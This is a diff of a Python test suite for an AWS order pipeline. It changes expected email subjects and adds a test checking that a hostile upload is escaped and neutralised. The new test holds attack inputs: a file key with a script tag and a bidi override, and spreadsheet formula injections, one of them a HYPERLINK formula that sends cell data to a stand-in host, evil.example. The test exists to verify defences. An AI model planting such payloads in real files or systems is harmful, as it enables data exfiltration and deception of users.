@@ -166,7 +166,9 @@ def test_a_batch_becomes_one_ses_email_with_each_files_rejects(notify_env: Any) 
     assert len(sent) == 1
     assert sent[0]["source"] == stack.settings.sender
     message = parse(sent[0]["raw_data"])
-    assert message["Subject"] == "orderpipe: 2 files need attention - 5 rows rejected"
+    assert message["Subject"] == (
+        "orderpipe: 2 files need attention - 2 partly accepted, 5 rows rejected"
+    )
     files = {p.get_filename(): p.get_content() for p in message.iter_attachments()}
     assert sorted(files) == ["north-rejects.csv", "south-rejects.csv"]
     south = list(csv.DictReader(io.StringIO(files["south-rejects.csv"])))
@@ -311,7 +313,7 @@ def test_an_upload_through_ingest_ends_in_one_email_naming_its_bad_lines(
     assert len(sent) == 1
     message = parse(sent[0]["raw_data"])
     assert message["Subject"] == (
-        "orderpipe: 1 file needs attention - 5 rows rejected (test_data1.csv)"
+        "orderpipe: test_data1.csv partly accepted - 5 of 12 rows rejected"
     )
     files = {p.get_filename(): p.get_content() for p in message.iter_attachments()}
     rows = list(csv.DictReader(io.StringIO(files["test_data1-rejects.csv"])))
@@ -364,3 +366,58 @@ def test_a_notify_claim_whose_reply_was_lost_is_this_senders_own(stack: Any) -> 
     # Another sender within the lease is still kept out.
     other = DynamoNotifyLedger(stack.clients.dynamodb, stack.names.files_table)
     assert other.claim(notice.file_id, "batch-2", now_s=1_010, lease_s=60) == Claim.BUSY
+
+
+def test_a_hostile_upload_is_stored_as_read_and_emailed_escaped_and_neutralised(
+    notify_env: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A key with a tab, markup and a bidi override, and a formula in a value: ingest stores
+    the valid row as read, notify sends one email (nothing dead-lettered) whose Subject shows
+    the key escaped and whose rejects CSV cannot run the formula. (moto's server answers 404
+    to a key holding a newline, so that case is tested on the in-memory fakes.)"""
+    stack = notify_env
+    monkeypatch.setenv("POWERTOOLS_TRACE_DISABLED", "true")
+    import handlers.ingest as ingest
+
+    bootstrap.forget_warm_clients()
+    key = "incoming/hostile\t<script>x\u202egpj.csv"
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for invoice")'
+    body = (
+        "Order_Id,Customer_Id,Order_Date,Order_Status,Order_Total\n"
+        f"HOSTILE-1,@SUM(1+1),19/04/23,Pending,1\n"
+        f'HOSTILE-2,"{formula.replace(chr(34), chr(34) * 2)}",19/04/23,Nope,-15.00\n'
+    ).encode()
+    stack.clients.s3.put_object(Bucket=stack.names.bucket, Key=key, Body=body)
+    s3_events = stack.clients.sqs.receive_message(
+        QueueUrl=stack.settings.ingest_queue_url, MaxNumberOfMessages=10, WaitTimeSeconds=1
+    )["Messages"]
+    answer = ingest.handler(
+        {"Records": [_record(m) for m in s3_events]},
+        LambdaContext("orderpipe-ingest", "us-east-1", 60),
+    )
+    bootstrap.forget_warm_clients()
+    assert answer["batchItemFailures"] == []
+    stored = stack.clients.dynamodb.get_item(
+        TableName=stack.names.orders_table, Key={"Order_Id": {"S": "HOSTILE-1"}}
+    )["Item"]
+    assert stored["Customer_Id"] == {"S": "@SUM(1+1)"}  # only the CSVs are neutralised
+
+    notices = _drain(stack)
+    assert [n.key for n in notices] == [key]
+    assert invoke(through_queue(stack, notices)) == []
+    (sent,) = sent_to(stack)
+    message = parse(sent["raw_data"])
+    subject = str(message["Subject"])
+    assert "\t" not in subject
+    assert "\u202e" not in subject
+    assert "hostile\\t<script>x\\u202egpj.csv" in subject
+    assert message["Bcc"] is None
+    (attachment,) = list(message.iter_attachments())
+    rows = list(csv.reader(io.StringIO(attachment.get_content())))
+    assert rows[1][:3] == ["3", "HOSTILE-2", "'" + formula]
+    assert rows[1][5] == "-15.00"
+    html = message.get_body(("html",))
+    assert html is not None
+    page = html.get_content()
+    assert "&lt;script&gt;x\\u202egpj.csv" in page
+    assert "<script>" not in page
